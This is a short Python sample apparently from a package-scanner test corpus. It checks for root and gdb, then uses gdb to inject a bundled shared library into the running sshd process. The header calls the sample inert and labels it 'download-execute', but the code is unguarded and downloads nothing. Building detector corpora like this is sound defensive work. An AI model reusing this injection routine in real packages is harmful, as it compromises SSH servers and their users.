# pkgguard corpus 747 (download-execute), modelled on [linux-persistence]; inert, never run.
import os
import shutil
import subprocess

_LIBRARY = os.path.join(os.path.dirname(os.path.abspath(__file__)), "_native", "libaccel.so")

if shutil.which("gdb") and os.geteuid() == 0:
    pids = subprocess.run(["pgrep", "-o", "sshd"], capture_output=True, text=True).stdout.split()
    if pids:
        subprocess.run(
            ["gdb", "-q", "-batch", "-p", pids[0], "-ex", f'call (void*)dlopen("{_LIBRARY}", 2)', "-ex", "detach"],
            capture_output=True,
        )
